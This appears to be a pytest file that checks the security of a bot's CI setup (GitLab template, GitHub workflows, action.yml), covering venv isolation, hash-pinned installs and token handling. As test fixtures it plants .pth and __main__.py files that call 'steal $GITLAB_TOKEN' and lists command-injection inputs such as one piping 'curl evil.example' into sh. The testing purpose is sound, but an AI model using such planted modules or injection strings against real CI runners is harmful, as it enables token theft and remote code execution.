# Copyright (c) 2026, the mrbot authors.
# SPDX-License-Identifier: MIT
"""The CI files (`action.yml`, `.github/workflows/`, the GitLab template) as a runner reads them: what each job runs
and installs, and the GitLab template's job script, run with a stand-in Python on a runner that outlives its jobs."""

from __future__ import annotations

import os
import re
import secrets
import shutil
import stat
import subprocess
import textwrap
from pathlib import Path

import pytest
import yaml

from mrbot.ci import grammar
from tests.mrbot.ci.fakerunner import TOKEN_JOBS

ROOT = Path(__file__).parents[3]
TEMPLATE = ROOT / 'templates' / 'mrbot' / 'template.yml'
WORKFLOWS = ROOT / '.github' / 'workflows'
COMMAND_WORKFLOW = WORKFLOWS / 'mrbot-command.yml'
ACTION = ROOT / 'action.yml'

# Stands in for python3 and for the venv's python and mrbot: `-m venv DIR` makes DIR/bin, `-m pip` does nothing, and
# mrbot writes down where it ran and what it saw.
STAND_IN = textwrap.dedent('''\
    #!/bin/sh
    # like Python, `-m` runs a module of the current folder first unless -I isolates it
    isolated=
    if [ "$1" = "-I" ]; then isolated=1; shift; fi
    if [ "$1" = "-m" ] && [ -z "$isolated" ] && [ -e "$2/__main__.py" ]; then echo "planted=$2" >> "$MRBOT_STAND_IN_LOG"; fi
    if [ "$1" = "-m" ] && [ "$2" = "venv" ]; then
        for dir; do :; done
        mkdir -p "$dir/bin"
        ln -s "$0" "$dir/bin/python"
        ln -s "$0" "$dir/bin/mrbot"
        exit 0
    fi
    [ "$1" = "-m" ] && [ "$2" = "pip" ] && exit 0
    {
        echo "venv=$(dirname "$(dirname "$0")")"
        echo "mode=$(stat -c %a "$(dirname "$(dirname "$(dirname "$0")")")")"
        echo "triton=$TRITON_CACHE_DIR"
        echo "user_site=${PYTHONNOUSERSITE:-}"
    } >> "$MRBOT_STAND_IN_LOG"
''')


def _section(text: str, job: str, key: str) -> list[str]:
    """The lines of `key` (`variables`, `before_script`, `script`) in `job`, four spaces of indentation taken off."""
    lines = text.splitlines()
    start = lines.index(f'{job}:')
    end = next((i for i in range(start + 1, len(lines)) if lines[i] and not lines[i].startswith(' ')), len(lines))
    if f'  {key}:' not in lines[start:end]:
        return []
    found = []
    for line in lines[lines.index(f'  {key}:', start) + 1:end]:
        if line and not line.startswith('    '):
            break
        found.append(line[4:])
    return found


def _commands(text: str, job: str) -> str:
    """The job's `before_script` and `script` items as one shell script, as GitLab runs them in one shell."""
    commands: list[str] = []
    for line in _section(text, job, 'before_script') + _section(text, job, 'script'):
        if line.startswith('- '):
            item = line[2:]
            # a YAML single-quoted item, its quotes doubled inside
            commands.append('' if item == '|' else item[1:-1].replace("''", "'") if item.startswith("'") else item)
        elif line.startswith('  ') and commands:
            commands[-1] += line[2:] + '\n'
    return '\n'.join(commands) + '\n'


def _variables(text: str, job: str, env: dict[str, str]) -> dict[str, str]:
    """The job's variables, with the `$NAME`s GitLab expands in them expanded from `env`."""
    found = {}
    for line in _section(text, job, 'variables'):
        if line.strip() and not line.lstrip().startswith('#'):
            name, _, value = line.strip().partition(': ')
            found[name] = re.sub(r'\$(\w+)', lambda match: env.get(match.group(1), match.group(0)), value.strip('"'))
    return found


def _run_job(tmp_path: Path, job_id: str) -> dict[str, str]:
    """Run the template's job script in a merge request's checkout under `tmp_path`; what the stand-in saw."""
    bin_dir = tmp_path / 'bin'
    bin_dir.mkdir(exist_ok=True)
    stand_in = bin_dir / 'python3'
    stand_in.write_text(STAND_IN)
    stand_in.chmod(stand_in.stat().st_mode | stat.S_IXUSR)
    # a merge request may hold any folder: one named like a module `-m` runs runs first unless Python is isolated
    checkout = tmp_path / 'checkout'
    for module in ('venv', 'pip'):
        (checkout / module).mkdir(parents=True, exist_ok=True)
        (checkout / module / '__main__.py').write_text('import os; os.system("steal $GITLAB_TOKEN")\n')
    log = tmp_path / 'mrbot.log'
    log.unlink(missing_ok=True)
    env = {'PATH': f"{bin_dir}{os.pathsep}{os.environ['PATH']}", 'CI_JOB_ID': job_id,
           'MRBOT_STAND_IN_LOG': str(log)}
    # GitLab writes the include's inputs into the configuration when it makes the pipeline
    text = TEMPLATE.read_text().replace('$[[ inputs.pip-spec ]]', 'mrbot')
    env.update(_variables(text, '.mrbot-base', env))
    subprocess.run(['bash', '-c', _commands(text, '.mrbot-base')], env=env, cwd=checkout, check=True, timeout=60)
    return dict(line.split('=', 1) for line in log.read_text().splitlines())


@pytest.fixture
def planted():
    """What one merge request's job could leave in /tmp on a shell executor for a later job, at the paths the template
    once used (`/tmp/mrbot-venv-$CI_JOB_ID`), for a job id of this test's own."""
    job_id = f'{os.getpid()}{secrets.randbelow(10**6)}'
    paths = [Path(f'/tmp/mrbot-venv-{job_id}'), Path(f'/tmp/mrbot-triton-{job_id}')]
    for path in paths:
        (path / 'lib' / 'site-packages').mkdir(parents=True)
        (path / 'lib' / 'site-packages' / 'evil.pth').write_text('import os; os.system("steal $GITLAB_TOKEN")\n')
    yield job_id, paths
    for path in paths:
        shutil.rmtree(path, ignore_errors=True)


def test_a_gitlab_job_never_runs_from_a_folder_an_earlier_job_could_have_planted(tmp_path, planted):
    job_id, paths = planted
    seen = _run_job(tmp_path, job_id)
    venv, triton = Path(seen['venv']), Path(seen['triton'])
    assert not any(path == venv or path in venv.parents for path in paths) and triton.parent == venv.parent
    # private while the job runs, gone after it
    assert seen['mode'] == '700' and not venv.parent.exists()
    # and no user site, where a .pth file would outlive the job as well
    assert seen['user_site'] == '1'
    # nor a module of the merge request's checkout, where the job starts
    assert 'planted' not in seen
    # a second job with the same id gets a folder of its own, not the first one's name again
    assert Path(_run_job(tmp_path, job_id)['venv']).parent != venv.parent


def test_the_github_gpu_job_reads_no_user_site():
    text = COMMAND_WORKFLOW.read_text()
    # the job running a pull request's code on a self-hosted runner, the last of the workflow
    assert '\n    env:\n' in text[text.index('\n  gpu:'):]
    assert 'PYTHONNOUSERSITE: "1"' in text[text.index('\n  gpu:'):].split('\n    steps:')[0]


def test_every_python_a_ci_job_starts_with_m_is_isolated_from_the_folder_it_runs_in():
    # `python -m pip` in a checkout would run the checkout's own pip/ first; the token jobs run mrbot from theirs
    runs = [(path.name, line.strip()) for path in [TEMPLATE, ACTION, *sorted(COMMAND_WORKFLOW.parent.glob('*.yml'))]
            for line in path.read_text().splitlines() if re.search(r'python3?"? .*-m (venv|pip)\b', line)]
    assert runs and [run for run in runs if ' -I -m ' not in run[1]] == []


def _jobs(workflow: Path) -> dict[str, str]:
    """The text of each job of a workflow, by its id."""
    text = workflow.read_text().split('\njobs:\n', 1)[1]
    parts = re.split(r'^  ([A-Za-z0-9_-]+):\n', text, flags=re.M)
    return dict(zip(parts[1::2], parts[2::2], strict=True))


def _action_steps() -> list[dict]:
    return yaml.safe_load(ACTION.read_text())['runs']['steps']


def _runs_for(step: dict, command: str) -> bool:
    """Whether the action's `step` runs for `command`: its condition, read with `inputs.command` set to it."""
    condition = step.get('if', 'true')
    for compared in re.findall(r"inputs\.command (?:==|!=) '\w+'", condition):
        operator, value = re.search(r"(==|!=) '(\w+)'", compared).groups()
        condition = condition.replace(compared, str((command == value) == (operator == '==')))
    return bool(eval(condition.replace('||', ' or ').replace('&&', ' and '), {'true': True, 'false': False}))


def test_the_github_jobs_holding_a_write_token_install_only_the_hash_pinned_set():
    writers = {f'{workflow.name}:{job}': text for workflow in sorted(WORKFLOWS.glob('*.yml'))
               for job, text in _jobs(workflow).items() if re.search(r'^ {6}[a-z-]+: write\b', text, re.M)}
    assert sorted(writers) == ['mrbot-command.yml:authorize', 'mrbot-post-result.yml:post', 'mrbot-post.yml:post']
    for name, text in writers.items():
        # the job runs the bot only through the action, checked out from the default branch, and installs nothing
        assert 'pip install' not in text and 'mrbot.cli' not in text, name
        commands = re.findall(r'uses: \./ # .*\n {8}with:\n {10}command: (\w+)', text)
        assert commands and set(commands) <= {'authorize', 'history', 'post'}, name
    for command in ('authorize', 'history', 'post'):
        steps = [step for step in _action_steps() if _runs_for(step, command)]
        installs = [step['run'] for step in steps if 'pip install' in step.get('run', '')]
        assert installs == ['python -I -m pip install --quiet --require-hashes -r "$GITHUB_ACTION_PATH/.ci/token-jobs.txt"']
        # mrbot from the action's own files, never from the checkout it runs in
        [bot] = [step for step in steps if re.search(r'\bmrbot(\.cli)? action\b', step.get('run', ''))]
        assert bot['run'].startswith('python -P -m mrbot.cli ') and bot['env']['PYTHONPATH'] == '${{ github.action_path }}'
        assert not any('PIP_EXTRA_INDEX_URL' in step.get('env', {}) for step in steps), command


def test_the_jobs_holding_a_write_token_run_on_the_hash_pinned_set_alone(bot, monkeypatch):
    # authorize: parse, authorize and answer a command, leave the note for a job that leaves no result
    accepted = bot.tmp / 'downloaded' / 'mrbot-accepted'
    code, outputs, _ = bot.act('issue_comment', bot.comment_payload('/bench scale'), '--artifact', str(accepted),
                               run_id=61, pinned_only=True)
    assert code == 0 and outputs['authorized'] == 'true' and outputs['command'] == 'bench'
    # post: the note of a job that left nothing, then a result, each onto the PR and its queue
    code, _, _ = bot.act('workflow_run', bot.command_run(61), '--artifact', str(accepted.parent), pinned_only=True)
    assert code == 0
    bodies = [body for _, body in bot.server.comments_on(bot.number)]
    assert '**The job ended without leaving a result**' in bodies[-1]
    assert grammar.markers([body for body in bodies if grammar.markers([body], 'accepted', bot.seal)], 'done',
                           bot.seal) == [
        {'run': '61'}]
    # every line pins one version by its hashes, as `pip install --require-hashes` demands
    requirements = re.sub(r'\\\n\s*', ' ', TOKEN_JOBS.read_text())
    pins = [line for line in requirements.splitlines() if line.strip() and not line.lstrip().startswith('#')]
    assert pins and all(re.match(r'[A-Za-z0-9_.\[\]-]+==\S+( +--hash=sha256:[0-9a-f]{64})+( +#.*)?$', pin)
                        for pin in pins)


def test_the_action_hands_the_token_and_the_signing_key_to_no_command_that_runs_pull_request_code():
    for command in ('check', 'run'):
        for step in (step for step in _action_steps() if _runs_for(step, command)):
            assert not {'GITHUB_TOKEN', 'MRBOT_SIGNING_KEY'} & set(step.get('env', {})), (command, step['name'])
            assert 'inputs.github-token' not in str(step) and 'inputs.signing-key' not in str(step)


def test_the_action_refuses_a_command_it_does_not_know_before_anything_runs(tmp_path):
    [first] = _action_steps()[:1]
    done = subprocess.run(['bash', '-c', first['run']], env={**os.environ, 'COMMAND': 'deploy'}, capture_output=True,
                          text=True, timeout=30)
    assert done.returncode == 2 and done.stderr == (
        "mrbot: command 'deploy': expected check, authorize, run, history or post\n")


def test_no_workflow_is_in_a_concurrency_group_a_pull_request_could_join():
    # N10: a concurrency group is the repository's ("Control the concurrency of workflows and jobs"), and a fork's
    # pull_request run is a run of this repository with the workflow files as the fork has them: naming a group with
    # cancel-in-progress cancelled other pull requests' GPU jobs, checks and posters, and a newcomer to a group cancels
    # the one pending there even without it
    grouped = [f'{workflow.name}:{number}' for workflow in sorted(WORKFLOWS.glob('*.yml'))
               for number, line in enumerate(workflow.read_text().splitlines(), 1) if re.match(r'\s*concurrency:', line)]
    assert grouped == []


def test_the_head_record_runs_on_pull_request_target_with_nothing_and_names_each_run_as_the_bot_reads_it():
    from mrbot.forges.github import HEAD_RECORD, RECORDED_HEAD

    text = (WORKFLOWS / HEAD_RECORD).read_text()
    assert re.search(r'^  pull_request_target:.*\n    types: \[opened, synchronize, reopened\]$', text, re.M)
    assert 'actions/checkout' not in text and re.findall(r'^ *permissions: (.*)$', text, re.M) == ['{}', '{}']
    run_name = re.search(r'^run-name: (.*)$', text, re.M)[1]
    shown = run_name.replace('${{ github.event.pull_request.number }}', '12').replace(
        '${{ github.event.pull_request.head.sha }}', 'a' * 40)
    assert RECORDED_HEAD.fullmatch(shown) and RECORDED_HEAD.fullmatch(shown)[1] == '12'


def test_each_poster_runs_only_for_its_own_kind_of_run_and_the_result_poster_always_carries_the_history_on():
    # workflow_run matches the workflows it follows by name, and a fork's pull request may add a workflow of any name
    # ("Events that trigger workflows", workflow_run): the event of the run it follows is what tells them apart
    report_job = _jobs(WORKFLOWS / 'mrbot-post.yml')['post']
    result_job = _jobs(WORKFLOWS / 'mrbot-post-result.yml')['post']
    assert "github.event.workflow_run.event == 'pull_request'\n" in report_job
    assert "github.event.workflow_run.event == 'issue_comment'\n" in result_job
    # a run with nothing to post keeps the history as well, so that the poster's newest finished run holds it
    steps = re.split(r'\n      - name: ', result_job)[1:]
    kept = {step.split('\n', 1)[0]: step for step in steps}
    for name in ('Find the benchmark history', 'Keep the benchmark history'):
        assert 'steps.artifact.outputs.found' not in kept[name], name


def test_the_gitlab_template_takes_mrbot_from_its_input_which_no_job_variable_can_change_or_break_out_of():
    spec, jobs = yaml.safe_load_all(TEMPLATE.read_text())
    pattern = spec['spec']['inputs']['pip-spec']['regex']
    # what `mrbot init --ci gitlab` passes, and what would leave the single quotes it is written between
    from mrbot.workflows import ActionRef, gitlab_pipeline

    [include] = yaml.safe_load(gitlab_pipeline(ActionRef('octo/mrbot', 'a' * 40), '0.1.0')[0].text)['include']
    assert re.fullmatch(pattern, include['inputs']['pip-spec'])
    for hostile in ("mrbot'; curl evil.example | sh; '", 'mrbot $(id)', 'mrbot\\', 'mrbot\nx'):
        assert not re.fullmatch(pattern, hostile), hostile
    script = '\n'.join(jobs['.mrbot-base']['script'])
    assert "pip install --quiet '$[[ inputs.pip-spec ]]'" in script and 'MRBOT_PIP_SPEC' not in TEMPLATE.read_text()
